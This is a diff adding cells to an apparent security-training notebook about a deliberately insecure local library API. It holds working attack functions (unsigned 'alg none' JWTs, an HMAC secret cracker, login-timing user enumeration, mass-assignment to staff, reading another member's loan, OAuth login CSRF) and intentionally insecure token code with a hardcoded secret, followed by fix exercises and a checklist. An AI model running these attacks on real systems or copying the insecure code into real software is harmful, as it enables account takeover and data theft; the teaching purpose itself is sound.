@@ -6,6 +6,335 @@
 #     name: python3
 # ---
 
+# %% [markdown]
+# # 1 · Authentication and authorization
+#
+# *Who are you, and may you do that?* You break six sign-ins, mend five of them, and let the checks prove it.
+#
+# Everything happens in the **Larkspur Library**: members, books, loans, staff. It runs inside this notebook, on
+# 127.0.0.1 only, and it is insecure on purpose.
+#
+# | beat | what you do |
+# |---|---|
+# | See | read a token |
+# | Break | six attacks on the flawed library |
+# | Fix | exercises 1.1 to 1.5 |
+# | Prove | the same attacks on your code |
+# | Apply | the checklist for your own app |
+#
+# About three hours. `check` runs the very checks that a grader runs.
+
+# %%
+from lab_app.jupyter import check, hint, progress, serve
+
+# %% [markdown]
+# ## See
+#
+# A login is a swap: a password for a **token**. From then on, the token is you.
+#
+# ```mermaid
+# sequenceDiagram
+#     participant A as Ada's browser
+#     participant L as Larkspur API
+#     A->>L: POST /token (name, password)
+#     L->>L: compare with the stored hash
+#     L-->>A: token, signed with JWT_SECRET
+#     A->>L: GET /members/me, Authorization: Bearer token
+#     L->>L: verify signature, exp, iss, aud
+#     L-->>A: 200 {"username": "ada"}
+# ```
+#
+# Two questions hide in there. *Authentication* asks whether the token is genuine. *Authorization* asks whether its
+# owner may have this loan. Forgetting the second is the most common flaw in APIs
+# ([OWASP API1:2023](https://owasp.org/API-Security/editions/2023/en/0xa1-broken-object-level-authorization/)).
+
+# %% [markdown]
+# The checklist's code for tokens looks like this. It is short, it works, and it is in thousands of apps.
+
+# %%
+# INSECURE: the checklist's own code; the secret stands in every word list, and nothing but exp is looked at.
+from datetime import UTC, datetime, timedelta
+
+from jose import jwt
+from passlib.context import CryptContext
+
+SECRET_KEY = "your-secret-key"
+ALGORITHM = "HS256"
+pwd_context = CryptContext(schemes=["bcrypt"], deprecated="auto")
+
+
+def create_access_token(username):
+    return jwt.encode({"sub": username, "exp": datetime.now(UTC) + timedelta(minutes=30)}, SECRET_KEY, ALGORITHM)
+
+
+token = create_access_token("ada")
+token
+
+# %% [markdown]
+# Three parts, two dots ([RFC 7515 §3.1](https://www.rfc-editor.org/rfc/rfc7515#section-3.1)). The first two are
+# base64url, which is a spelling and not a secret. Anybody reads them; only the third part is hard to make.
+
+# %%
+import base64
+import json
+
+
+def decode_part(part):
+    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
+
+
+for part in token.split(".")[:2]:
+    print(decode_part(part))
+
+# %% [markdown]
+# ## Break
+#
+# Start the flawed library. The link opens its API in a new tab; look around. Its people are *ada*, *mallory*, *dora*
+# and, on the staff, *grace*. You play Mallory.
+
+# %%
+from lab_app.larkspur.authentication import app as flawed_app
+
+larkspur = serve(flawed_app, "larkspur")
+larkspur
+
+# %% [markdown]
+# ### 1 · Write your own token
+#
+# Somebody switched verification off "just while we debug". So a token that nobody signed will do
+# ([RFC 8725 §2.1](https://www.rfc-editor.org/rfc/rfc8725#section-2.1), CWE-347). Each attack below is a function that
+# returns what it got, or None. You will run the same functions against your own code later.
+
+
+# %%
+def unsigned_token(name):
+    def encode(value):
+        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
+
+    return f"{encode({'alg': 'none'})}.{encode({'sub': name})}."
+
+
+def be_grace(target):
+    """Attack 1: read Grace's page with a token that nobody signed."""
+    answer = target.get("/members/me", headers={"Authorization": f"Bearer {unsigned_token('grace')}"})
+    return answer.json() if answer.status_code == 200 else None
+
+
+be_grace(larkspur)
+
+# %% [markdown]
+# ### 2 · Guess the secret
+#
+# HS256 uses one secret to sign and to verify. Take any genuine token and try words until a signature fits. No request
+# is sent, no limit slows you down. That is why the key must be as long as the hash, 256 bits
+# ([RFC 7518 §3.2](https://www.rfc-editor.org/rfc/rfc7518#section-3.2), CWE-521).
+
+# %%
+import hashlib
+import hmac
+import os
+
+WORDS = "secret password changeme letmein jwt-secret supersecret fastapi your-secret-key larkspur".split()
+
+
+def crack(token):
+    """Attack 2: the secret that a token was signed with, if it stands in a word list."""
+    signed, signature = token.rsplit(".", 1)
+    for word in WORDS:
+        digest = hmac.new(word.encode(), signed.encode(), hashlib.sha256).digest()
+        if base64.urlsafe_b64encode(digest).rstrip(b"=").decode() == signature:
+            return word
+    return None
+
+
+def newcomer():
+    name = f"visitor{base64.b32encode(os.urandom(5)).decode().lower()}"
+    return {"username": name, "email": f"{name}@mail.example", "password": "seven purple geese on a pond"}
+
+
+def crack_the_secret(target):
+    person = newcomer()
+    target.post("/register", json=person)
+    answer = target.post("/token", data={"username": person["username"], "password": person["password"]})
+    return crack(answer.json()["access_token"]) if answer.status_code == 200 else None
+
+
+secret = crack_the_secret(larkspur)
+secret
+
+# %% [markdown]
+# With the secret you are everybody. Promote yourself and read every member's address.
+
+# %%
+if secret:
+    staff_token = jwt.encode({"sub": "mallory", "role": "staff"}, secret, "HS256")
+    print(larkspur.get("/members", headers={"Authorization": f"Bearer {staff_token}"}).json())
+
+# %% [markdown]
+# ### 3 · Time the login
+#
+# Larkspur answers every failed login with the same words. But it computes a slow hash only for names that exist.
+# Measure (CWE-208, CWE-204; ASVS 5.0 6.3.8).
+
+# %%
+import statistics
+import time
+
+
+def login_times(target, name, tries=9):
+    times = []
+    for _ in range(tries):
+        began = time.perf_counter()
+        target.post("/token", data={"username": name, "password": "wrong password, of course"})
+        times.append(1000 * (time.perf_counter() - began))
+    return times
+
+
+def find_members(target):
+    """Attack 3: how many times longer a login takes for somebody who exists, if that shows."""
+    person = newcomer()
+    target.post("/register", json=person)
+    member, nobody = (statistics.median(login_times(target, name)) for name in (person["username"], "nobody-at-all"))
+    return member / nobody if member > 2 * nobody else None
+
+
+guesses = ["ada", "alan", "charles", "dora", "grace", "linus", "mallory"]
+measured = {name: login_times(larkspur, name) for name in guesses}
+
+# %%
+import matplotlib.pyplot as plt
+
+figure, axis = plt.subplots(figsize=(7, 2.8))
+for row, name in enumerate(guesses):
+    axis.plot(measured[name], [row] * len(measured[name]), "o", alpha=0.6)
+axis.set(xlabel="milliseconds until “Incorrect username or password”", yticks=range(len(guesses)), yticklabels=guesses)
+axis.set_title("Which of these are members?")
+figure.tight_layout()
+
+# %% [markdown]
+# ### 4 · Register as staff
+#
+# The library stores whatever columns you send. Nobody asked for `role`, and nobody refused it
+# ([OWASP API3:2023](https://owasp.org/API-Security/editions/2023/en/0xa3-broken-object-property-level-authorization/),
+# CWE-915).
+
+# %%
+from lab_app.larkspur.database import rows
+
+
+def register_as_staff(target):
+    """Attack 4: what the database says your role is, if it is not `member`."""
+    person = newcomer()
+    target.post("/register", json=person | {"role": "staff"})
+    found = rows("SELECT username, role FROM members WHERE username = :name", name=person["username"])
+    return found[0] if found and found[0]["role"] != "member" else None
+
+
+register_as_staff(larkspur)
+
+# %% [markdown]
+# ### 5 · Read Ada's loan
+#
+# You log in honestly, as Mallory, and count: loan 1, loan 2, loan 3. The library asks who you are. It does not ask
+# whose loan that is (CWE-639, ASVS 5.0 8.2.2).
+
+
+# %%
+def token_of(name):
+    """An honest token, as the library's own login would sign it for you."""
+    now = int(time.time())
+    claims = {"sub": name, "iat": now, "exp": now + 600}
+    claims |= {"iss": os.environ["JWT_ISSUER"], "aud": os.environ["JWT_AUDIENCE"]}
+    return jwt.encode(claims, os.environ["JWT_SECRET"], "HS256")
+
+
+ada_loan = rows("SELECT loans.id FROM loans JOIN members ON members.id = member_id WHERE username = 'ada'")[0]["id"]
+
+
+def read_adas_loan(target):
+    """Attack 5: Ada's loan, as Mallory."""
+    answer = target.get(f"/loans/{ada_loan}", headers={"Authorization": f"Bearer {token_of('mallory')}"})
+    return answer.json() if answer.status_code == 200 else None
+
+
+read_adas_loan(larkspur)
+
+# %% [markdown]
+# ### 6 · Sign Ada in as yourself
+#
+# Larkspur lets you sign in with GitHub. Here is a look-alike of it, on this machine. The dance:
+#
+# ```mermaid
+# sequenceDiagram
+#     participant B as Browser
+#     participant L as Larkspur
+#     participant G as GitHub
+#     B->>L: GET /login/github
+#     L-->>B: 302 to GitHub (client_id, redirect_uri, state, code_challenge)
+#     B->>G: sign in, approve
+#     G-->>B: 302 to /auth/github?code=…&state=…
+#     B->>L: GET /auth/github?code=…&state=…
+#     L->>G: code + client_secret + code_verifier
+#     G-->>L: access token
+#     L-->>B: session cookie
+# ```
+
+# %% [markdown]
+# Without `state`, any browser may finish a dance that another one began. Mallory signs in at GitHub as herself, stops
+# at the last step and sends Ada the link. Ada clicks. From now on whatever Ada saves lands in Mallory's account
+# ([RFC 6749 §10.12](https://www.rfc-editor.org/rfc/rfc6749#section-10.12),
+# [RFC 9700 §4.7](https://www.rfc-editor.org/rfc/rfc9700#section-4.7), CWE-352).
+
+# %%
+from urllib.parse import urlsplit
+
+import httpx
+
+from lab_app.jupyter.kernel import github
+from lab_app.runner.services.github import User
+
+MALLORY = User(id=666, login="mallory-at-github")
+
+
+def sign_ada_in(target):
+    """Attack 6: who Ada's browser is signed in as, after one click on Mallory's link."""
+    begun = target.get("/login/github")
+    link = urlsplit(github.approve(begun.headers.get("location", ""), MALLORY))
+    with httpx.Client(base_url=target.url) as ada:
+        ada.get(f"{link.path}?{link.query}")
+        answer = ada.get("/me")
+    return answer.json() if answer.status_code == 200 else None
+
+
+sign_ada_in(larkspur)
+
+# %% [markdown]
+# Six doors, six ways in. Now shut them.
+#
+# ## Fix
+#
+# Each exercise is one cell. Run it, then run its `check`. What a cell needs from outside stands in environment
+# variables: `DATABASE_URL`, `JWT_SECRET`, `JWT_ISSUER`, `JWT_AUDIENCE`, `LOG_FILE`, `PUBLIC_BASE_URL`. They are set
+# here and, with other values, when you are graded; so read them, and never write them into the code.
+#
+# The database has `members(id, username, email, password_hash, role, disabled)`, `books(id, title, author, year,
+# shelf)`, `loans(id, member_id, book_id, due_on, returned)` and `reviews(id, book_id, member_id, body)`.
+#
+# Use any library you like. Errors are FastAPI's shape, `{"detail": …}`. A crash (5xx) is never a fix.
+
+# %% [markdown]
+# ### Exercise 1.1 · Read the token
+#
+# `GET /members/me` with `Authorization: Bearer <JWT>` → 200 `{"username", "email"}` of the member named by `sub`.
+#
+# Tokens are HS256, signed with `JWT_SECRET` (its characters, not decoded), and must carry `sub`, `exp`, `iat`, `iss` =
+# `JWT_ISSUER`, `aud` = `JWT_AUDIENCE` (string or list). Anything else: 401 with `WWW-Authenticate: Bearer`.
+#
+# "Anything else" is meant: every spelling of `none`, another key or algorithm, a changed payload, times that are past,
+# missing, far ahead or no numbers, a `crit` header that you do not know, malformed tokens, members who are unknown or
+# disabled, tokens in the query string. Up to 60 s of leeway and none are both right. Servers stand in Tokyo and in New
+# York.
+
 # %% exercise="1.1" role="starter"
 # Exercise 1.1 — Read the token (INSECURE: this is the code to mend)
 import os
@@ -79,6 +408,109 @@ def current_member(credentials: HTTPAuthorizationCredentials | None = Depends(be
 def read_me(member: dict = Depends(current_member)) -> dict:
     return member
 
+
+# %%
+app_1_1 = app
+check("1.1")
+
+# %% [markdown]
+# Stuck? `hint("1.1")` gives one hint at a time, for what failed.
+#
+# ### Exercise 1.2 · Register and log in
+#
+# - `POST /register` JSON `{username, email, password}` → 201 `{"id", "username", "email"}`; a username or e-mail that
+#   is taken → 409; password under 15 or over 128 characters → 422.
+# - `POST /token` (OAuth2 password form) → 200 `{"access_token", "token_type": "bearer", "expires_in"}` with a token as
+#   in 1.1, 30 minutes at most; wrong → 401.
+# - `GET /members/me` as in 1.1. `GET /health` → 200.
+# - Members are stored in `members`.
+#
+# This is the checklist's first exercise.
+
+# %% [markdown]
+# What the checks look at, from outside:
+#
+# - The database holds a recognised adaptive hash in its PHC or passlib form (argon2id ≥ 19 MiB and t ≥ 2, scrypt ≥
+#   2^14, bcrypt cost ≥ 10, PBKDF2-SHA256 ≥ 600 000) and nowhere the password. Equal passwords, different hashes. Every
+#   character counts, past byte 43 and past byte 72 too.
+# - `role`, `disabled` and `id` in the body change nothing (201 or 422). 20 registrations of one name at once: one 201.
+# - An unknown user and a wrong password give the same status, body, headers and time.
+# - `Cache-Control: no-store` on the token. A disabled member gets none.
+# - `/health` stays fast while eight logins run. NUL bytes and 1 MB never give 5xx.
+
+
+# %%
+app_1_2 = app
+check("1.2")
+
+# %% [markdown]
+# ### Exercise 1.3 · Refresh, log out, change password
+#
+# A token that nobody can take back is a door that does not lock. `POST /register`, `POST /token`, `GET /members/me` as
+# in 1.2; and:
+#
+# - `POST /token` also returns `refresh_token`.
+# - `POST /refresh` `{"refresh_token"}` → 200 with new `access_token` and `refresh_token`.
+# - `POST /logout` `{"refresh_token"}` → 204.
+# - `POST /password` `{"old", "new"}` with bearer → 204.
+#
+# State lives in the database: a table of your own.
+
+# %% [markdown]
+# What must hold:
+#
+# - A refresh token is no access token, and the reverse.
+# - A rotated refresh token that comes back → 401, and its whole family is dead
+#   ([RFC 9700 §4.14.2](https://www.rfc-editor.org/rfc/rfc9700#section-4.14.2)): somebody has stolen it.
+# - After logout or password change the access and refresh tokens of that session are dead, also after a restart of the
+#   process. Logging one session out leaves the member's other session alive.
+# - Two parallel refreshes → one 200.
+#
+# Not judged: other sessions after a password change, what becomes of the winner's family after two parallel refreshes,
+# which 4xx.
+
+
+# %%
+check("1.3")
+
+# %% [markdown]
+# ### Exercise 1.4 · Whose loan is it?
+#
+# With 1.1's tokens:
+#
+# - `GET /loans/{id}` and `POST /loans/{id}/renew` → 200 for the owner or staff, 404 for everybody else and for unknown
+#   ids alike. Renewing moves `due_on` later. A text id is 404 or 422; bodies are free.
+# - `GET /members` → 200 for staff, 403 for members.
+# - `PATCH /members/{username}` `{"email"}` → 200 own or staff, for others 403 or 404 but the same for names that exist
+#   and names that do not.
+#
+# The role is read from the database, not from the token: staff who were demoted a minute ago are members now.
+
+
+# %%
+app_1_4 = app
+check("1.4")
+
+# %% [markdown]
+# ### Exercise 1.5 · Sign in with GitHub
+#
+# Env `GITHUB_CLIENT_ID`, `GITHUB_CLIENT_SECRET`, `GITHUB_BASE_URL` (a local provider with `/login/oauth/authorize`,
+# `/login/oauth/access_token`, `/user`), `PUBLIC_BASE_URL`, `SESSION_SECRET`.
+#
+# - `GET /login/github?next=/path` → 302 to the provider.
+# - `GET /auth/github` → 302 or 303 to `next` with a session cookie.
+# - `GET /me` → `{"id", "login"}` or 401.
+
+# %% [markdown]
+# What must hold:
+#
+# - A fresh `state` of ≥ 22 characters and an S256 PKCE challenge each time; `redirect_uri` fixed, whatever `Host` and
+#   `X-Forwarded-Host` say.
+# - The attacker's callback in the victim's browser, and a replayed callback, sign nobody in. `error=access_denied`,
+#   missing code or state → 4xx. Provider down or 500 → 502 or 503.
+# - Accounts keyed by the numeric id, not login or e-mail. The provider's token in no body, cookie, log.
+# - `next` = `https://evil`, `//evil`, `/\evil` leads to `/` or a 4xx.
+# - Cookie HttpOnly, SameSite, `Secure` when `PUBLIC_BASE_URL` is https; a new session id at login.
 
 # %% exercise="1.5" role="starter"
 # Exercise 1.5 — Sign in with GitHub (INSECURE: this is the code to mend)
@@ -210,3 +642,54 @@ def read_me(request: Request) -> dict:
     if "user" not in request.session:
         raise HTTPException(401, "Sign in first.")
     return request.session["user"]
+
+
+# %%
+app_1_5 = app
+check("1.5")
+
+# %% [markdown]
+# ## Prove
+#
+# The checks above are one proof. Here is another: Mallory's own six attacks, on Larkspur and on your code. Run this
+# after any change, once you have run the exercise and its check again.
+
+# %%
+rounds = [
+    (be_grace, app_1_1),
+    (crack_the_secret, app_1_2),
+    (find_members, app_1_2),
+    (register_as_staff, app_1_2),
+    (read_adas_loan, app_1_4),
+    (sign_ada_in, app_1_5),
+]
+print(f"{'attack':20}{'on Larkspur':14}on yours")
+for attack, mine in rounds:
+    got_in = ["got in" if attack(target) else "blocked" for target in (larkspur, serve(mine, "yours"))]
+    print(f"{attack.__name__:20}{got_in[0]:14}{got_in[1]}")
+
+# %% [markdown]
+# ## Apply
+#
+# Your own app, line by line. Copy what you cannot tick into your issue tracker.
+#
+# - [ ] Every token's signature is verified with one algorithm that *we* chose (RFC 8725 §3.1, ASVS 5.0 9.1.2).
+# - [ ] `exp`, `iss` and `aud` are required and compared, not just decoded (ASVS 5.0 9.2.1, 9.2.3).
+# - [ ] The signing key is random, 256 bits or more, and not in the repository (RFC 7518 §3.2).
+# - [ ] A disabled account is out at once, whatever its token says (ASVS 5.0 7.4.2).
+# - [ ] Passwords are stored with argon2id, scrypt, bcrypt or PBKDF2 at current cost
+#   ([OWASP Password Storage](https://cheatsheetseries.owasp.org/cheatsheets/Password_Storage_Cheat_Sheet.html)).
+# - [ ] 64 characters and spaces are allowed, nothing is cut (ASVS 5.0 6.2.8, 6.2.9).
+
+# %% [markdown]
+# - [ ] A failed login tells nothing about who exists, by words or by time (ASVS 5.0 6.3.8).
+# - [ ] Request bodies are models that list their fields; nobody sends `role` (ASVS 5.0 8.2.3, CWE-915).
+# - [ ] Logout ends the session on the server (ASVS 5.0 7.4.1); refresh tokens rotate, and a replay kills the family
+#   (RFC 9700 §4.14.2).
+# - [ ] Every object is fetched *together with* its owner (ASVS 5.0 8.2.2), every function names who may call it
+#   (8.2.1), and a change of role counts at once (8.3.2).
+# - [ ] OAuth: `state` and PKCE bound to this browser, `redirect_uri` constant, accounts keyed by an id that is never
+#   given to anybody else (ASVS 5.0 10.1.2, 10.2.1; RFC 9700 §2.1).
+
+# %%
+progress()
